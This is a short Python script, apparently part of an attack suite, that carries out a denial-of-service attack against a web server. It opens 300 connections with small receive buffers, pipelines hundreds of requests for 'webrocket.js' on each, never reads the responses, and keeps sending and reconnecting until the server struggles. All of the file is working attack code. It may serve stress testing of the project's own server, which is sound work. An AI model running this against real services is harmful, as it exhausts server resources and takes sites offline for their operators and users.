"""Clients that ask for much, over and over, and read none of it."""

import socket

import attack

CONNECTIONS = 300
REQUESTS = 200


def unread_answers(target, stop):
    request = f"GET {target.path}/webrocket.js HTTP/1.1\r\nHost: x\r\n\r\n".encode() * REQUESTS

    def begin():
        connection = target.connect()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        try:
            connection.send(request)
        except OSError:
            pass
        return connection

    connections = [begin() for _ in range(CONNECTIONS)]
    turns = again = 0
    while not stop.wait(0.005):
        at = turns % CONNECTIONS
        turns += 1
        try:
            connections[at].send(request[:1000])
        except BlockingIOError:
            pass
        except OSError:
            connections[at].close()
            connections[at] = begin()
            again += 1
            if again == 1:
                attack.in_full_swing()  # they have been waited for long enough
    return {"asked": CONNECTIONS + again, "dropped": again}


if __name__ == "__main__":
    attack.main(unread_answers)
